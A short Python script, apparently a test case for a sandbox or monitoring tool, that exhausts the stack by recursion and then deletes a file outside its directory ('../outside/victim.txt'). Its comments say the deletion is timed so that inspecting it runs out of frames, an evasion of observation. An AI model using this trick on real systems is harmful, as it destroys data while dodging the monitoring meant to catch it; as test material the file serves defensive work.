# The deed is done with ever fewer frames left, so that looking at it runs out of them.
# damage: deleted
import os
import sys

unlink = os.unlink
sys.setrecursionlimit(120)


def dive():
    try:
        dive()
    except RecursionError:
        pass
    try:
        unlink("../outside/victim.txt")
    except RecursionError:
        pass


dive()
